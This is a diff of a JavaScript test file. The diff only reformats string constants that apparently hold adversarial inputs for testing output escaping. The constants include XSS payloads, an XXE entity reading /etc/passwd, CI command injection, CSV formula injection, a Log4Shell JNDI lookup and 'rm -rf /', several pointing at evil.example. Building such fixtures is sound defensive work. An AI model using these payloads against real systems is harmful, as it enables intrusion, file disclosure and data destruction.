@@ -32,17 +32,21 @@ const ANSI =
   '\x1b[2J\x1b[1;31mPASSED\x1b[0m\x1b]0;title\x07\x1b]8;;http://evil.example\x07link\x1b]8;;\x07' +
   '\x9b31m\x1bP+q\x1b\\\x08\x08\x7f';
 const HTML =
-  '</pre></td><script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>&lt;<!--"\'`><base href=//evil.example>';
+  '</pre></td><script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>' +
+  '&lt;<!--"\'`><base href=//evil.example>';
 const XML =
-  ']]></failure></testcase></testsuite><?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;<![CDATA[';
+  ']]></failure></testcase></testsuite><?xml version="1.0"?>' +
+  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;<![CDATA[';
 const BIDI = 'abc\u202edef\u2066ghi\u2069\u200b\u200d\ufeff\u2028\u2029\u061c\u00ad\u{e0041}\u180e';
 const EMOJI = '👩‍👩‍👧‍👦🏳️‍🌈🇩🇪 漢字 ｆｕｌｌ z̸̡͓a̵l̷g̶o̴ ﷽';
 const BAD_UTF8 = Buffer.from('c328a0a1e28028f0288cbcfe80c0aeedafbf41ff', 'hex');
 const CONTROLS = Buffer.from(Array.from({ length: 32 }, (_, code) => code));
 const CI =
-  '\r\n::error file=evil.js::pwned\n::stop-commands::x\n##[error]pwned\n::add-mask::hookproof\n  ::set-output name=a::b\n##vso[task.complete result=Failed;]\n##teamcity[buildStatus]';
+  '\r\n::error file=evil.js::pwned\n::stop-commands::x\n##[error]pwned\n::add-mask::hookproof\n' +
+  '  ::set-output name=a::b\n##vso[task.complete result=Failed;]\n##teamcity[buildStatus]';
 const MARKDOWN =
-  '|a|b|\n|-|-|\n[x](javascript:alert(1)) ![i](http://evil.example/i.png) <details open> `` ` `` ** __ @everyone\n# heading\n```\nfence';
+  '|a|b|\n|-|-|\n[x](javascript:alert(1)) ![i](http://evil.example/i.png) <details open> `` ` `` ** __ @everyone\n' +
+  '# heading\n```\nfence';
 const CSV = '=HYPERLINK("http://evil.example";"x")\n+1+1\n-2+3\n@SUM(A1)\n\t=1\n"quoted", \'';
 // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on other template engines
 const LOGS = '${jndi:ldap://evil.example/a} %n%s%x {{7*7}} ${7*7} $(id) `id` ; rm -rf / \'"';
